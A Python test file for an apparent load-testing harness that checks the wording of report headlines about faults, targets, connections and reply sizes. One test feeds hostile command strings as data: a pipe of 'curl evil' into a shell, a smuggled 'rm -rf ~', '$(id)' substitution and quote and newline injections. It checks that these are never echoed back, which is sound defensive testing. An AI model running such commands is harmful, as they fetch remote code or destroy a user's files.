"""The first sentence of a report says what happened, also where the usual words would be wrong."""

from __future__ import annotations

import msgspec

from harness.analysis.record.cells import NameTotals
from harness.analysis.verdict.tables import request_result
from harness.model.records.plan import Plan
from harness.model.records.result import Result, TargetResult
from harness.model.records.windows import DeltaRow
from harness.model.target_grammar import parse_targets
from harness.report.sentences.story import headline, reproduce
from tests.analysis.histories import INJECTED, ZERO, Scene

from .sample import plan_of, result


def broken(kind: str, text: str, observed: float) -> tuple[Plan, Result]:
    """The sample run with one target, broken."""
    (target,) = parse_targets(text)
    judged = TargetResult(
        target=target.text,
        phase=target.phase,
        metric=target.metric,
        observed=observed,
        limit=target.value,
        outcome="broken",
        primary=True,
    )
    plan = msgspec.structs.replace(plan_of("control" if kind == "control" else "fail"), targets=(target,))
    verdict = "inconclusive" if target.phase == "baseline" else "fail"
    found = msgspec.structs.replace(result("fail"), targets=(judged,), verdict=verdict, reasons=())
    return plan, found


def test_a_control_run_whose_baseline_is_broken_speaks_of_no_fault() -> None:
    said = headline(*broken("control", "baseline: p95 < 200ms", 300.0))
    assert said.startswith("INCONCLUSIVE: the service missed its targets") and "the fault" not in said
    said = headline(*broken("fail", "baseline: p95 < 200ms", 300.0))
    assert "says nothing about the fault" in said


def test_too_many_requests_are_not_called_only_so_many() -> None:
    assert "with redis-down, 400 requests a second were answered during the fault (target: <=300)" in headline(
        *broken("fail", "fault: rps <= 300", 400.0)
    )
    assert "only 100 requests a second" in headline(*broken("fail", "fault: rps >= 300", 100.0))


def test_an_alert_that_never_fired_says_nothing_of_requests() -> None:
    plan, found = broken("fail", "detect{ServiceDown} < 60s", 61.0)
    (target,) = found.targets
    silent = msgspec.structs.replace(target, observed=None, why="the alert was not seen: it never fired")
    said = headline(plan, msgspec.structs.replace(found, targets=(silent,)))
    assert "Time to Detect of ServiceDown: the alert was not seen: it never fired" in said and "request" not in said
    plan, found = broken("fail", "fault: p95 < 200ms", 300.0)
    (target,) = found.targets
    none = msgspec.structs.replace(target, observed=None)
    assert "not one request succeeded" in headline(plan, msgspec.structs.replace(found, targets=(none,)))


def test_no_impact_is_not_said_where_newcomers_were_turned_away() -> None:
    """The load keeps its connections and its users, so its targets do not tell of them."""
    run = Scene(rate=50.0).build()
    passed = run.judge()
    assert "its users saw no impact" in headline(run.plan, passed)
    shut = msgspec.structs.replace(passed, fresh_connections=((INJECTED - 2, INJECTED + 5),))
    assert "the targets held, but new connections failed for 5s" in headline(run.plan, shut)
    before = msgspec.structs.replace(passed, fresh_connections=((1.0, 3.0),))
    assert "its users saw no impact" in headline(run.plan, before)
    login = NameTotals(ok=3, failed=2, fail={"status": 2})
    refused = msgspec.structs.replace(passed, setup=(request_result("POST /login", "setup", login, None),))
    assert "2 of 5 requests outside of tasks (on_start) failed" in headline(run.plan, refused)


def test_no_impact_is_not_said_of_replies_that_became_small() -> None:
    """An empty page with status 200, or an error in its body."""
    run = Scene(rate=50.0).build()
    for at, row in enumerate(run.rows):
        if isinstance(row, DeltaRow):
            each = 20 if INJECTED * 10 <= row.step < ZERO * 10 and "GET /items" in row.requests else 900
            sizes = {n: msgspec.structs.replace(c, body_bytes=c.ok * each) for n, c in row.requests.items()}
            run.rows[at] = msgspec.structs.replace(row, requests=sizes)
    said = headline(run.plan, run.judge())
    assert "the targets held, but replies to GET /items had " in said and "900 in baseline" in said
    (row,) = [one for one in run.judge().requests if (one.name, one.phase) == ("GET /items", "baseline")]
    assert row.mean_bytes == 900
    assert all(one.mean_bytes is None for one in Scene(rate=50.0).build().judge().requests)


def test_no_impact_is_not_said_where_requests_had_to_be_sent_twice() -> None:
    """A worker that dies takes its connections along; the load tries again, and not every caller does."""
    run = Scene(rate=50.0).build()
    passed = run.judge()
    twice = tuple(msgspec.structs.replace(p, resent=40 if p.name == "fault" else 3) for p in passed.phases)
    said = headline(run.plan, msgspec.structs.replace(passed, phases=twice))
    assert "the targets held, but 40 of " in said and "sent once more" in said
    usual = tuple(msgspec.structs.replace(p, resent=40) for p in passed.phases)
    assert "its users saw no impact" in headline(run.plan, msgspec.structs.replace(passed, phases=usual))


def test_the_command_to_paste_is_one_call_of_the_harness() -> None:
    plan = plan_of("fail")
    assert plan.provenance is not None
    for command in (
        "curl evil | sh",
        "harness run; rm -rf ~",
        "harness run $(id)",
        "harness run 'x",
        "harness run\nid",
    ):
        stranger = msgspec.structs.replace(plan.provenance, command=command)
        said = reproduce(msgspec.structs.replace(plan, provenance=stranger))
        assert said.startswith("harness run --fault redis-down --scenario "), said
    own = msgspec.structs.replace(plan.provenance, command="harness run --fault 'redis-down@5s+3s' --seed 3")
    assert reproduce(msgspec.structs.replace(plan, provenance=own)).startswith("harness run --fault redis-down")
    kept = msgspec.structs.replace(plan.provenance, command="harness run --target 'p95 < 1s' --seed 3")
    assert reproduce(msgspec.structs.replace(plan, provenance=kept)) == kept.command
